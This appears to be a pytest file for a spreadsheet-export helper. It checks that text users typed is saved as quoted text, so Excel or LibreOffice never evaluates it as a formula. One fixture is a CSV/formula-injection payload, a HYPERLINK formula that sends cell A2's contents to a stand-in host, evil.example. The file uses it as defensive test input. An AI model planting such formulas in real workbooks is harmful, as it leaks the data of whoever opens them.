"""Text people typed stays text in the workbooks we hand out: never a formula Excel or LibreOffice would run."""

import datetime as dt
import io

from openpyxl import Workbook, load_workbook

from motcua.core.spreadsheet import save_workbook

EVIL = '=HYPERLINK("http://evil.example/?d="&A2;"Bấm vào đây")'


def test_typed_text_that_looks_like_a_formula_is_written_as_text_and_numbers_and_dates_stay():
    wb = Workbook()
    wb.active.append([EVIL, "+84 912 345 678", "-Hồ sơ trả lại", "@SUM(1;2)", "\t=1+1", "Nguyễn Văn An",
                      -5, 2.5, dt.date(2024, 12, 31)])
    ws = load_workbook(io.BytesIO(save_workbook(wb))).active
    cells = list(ws[1])
    assert [c.value for c in cells[:6]] == [EVIL, "+84 912 345 678", "-Hồ sơ trả lại", "@SUM(1;2)", "\t=1+1",
                                            "Nguyễn Văn An"]  # the words themselves are unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:5])  # text, kept as text even when edited
    assert not cells[5].quotePrefix
    assert (cells[6].value, cells[6].data_type, cells[7].value) == (-5, "n", 2.5)  # a negative number is a number
    assert cells[8].is_date and cells[8].value.date() == dt.date(2024, 12, 31)


def test_saving_to_a_path_keeps_text_as_text(tmp_path):
    wb = Workbook()
    wb.active["B3"] = "=1+1"
    save_workbook(wb, tmp_path / "a.xlsx")
    cell = load_workbook(tmp_path / "a.xlsx").active["B3"]
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_saving_visits_the_cells_written_not_every_empty_position_of_the_sheet():
    wb = Workbook()
    ws = wb.active
    ws["A1"] = "Báo cáo thống kê"
    ws.cell(row=3000, column=300, value="=ghi chú")  # one note far from the title: 900,000 positions between them
    written = len(ws._cells)
    data = save_workbook(wb)
    assert len(ws._cells) == written  # no empty cell made for each position of the used range
    cell = load_workbook(io.BytesIO(data)).active.cell(row=3000, column=300)
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=ghi chú", "s", True)
